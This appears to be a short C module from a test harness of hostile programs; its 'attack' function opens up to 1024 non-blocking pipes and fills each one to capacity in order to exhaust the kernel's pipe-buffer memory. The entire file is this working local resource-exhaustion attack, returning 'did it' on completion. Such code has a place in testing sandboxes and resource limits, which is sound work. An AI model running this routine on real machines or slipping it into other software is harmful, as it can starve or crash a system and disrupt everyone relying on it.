/* Fills pipes: memory of the kernel. */
#include "hostile.h"

#include <fcntl.h>

enum { PIPES = 1024 };

static const char *attack(const struct victims *v)
{
    (void)v;
    static char full[1 << 16];
    for (int i = 0; i < PIPES; i++) {
        int ends[2];
        if (pipe2(ends, O_NONBLOCK) < 0)
            return outcome(-1);
        while (write(ends[1], full, sizeof full) > 0)
            ;
    }
    return "did it";
}
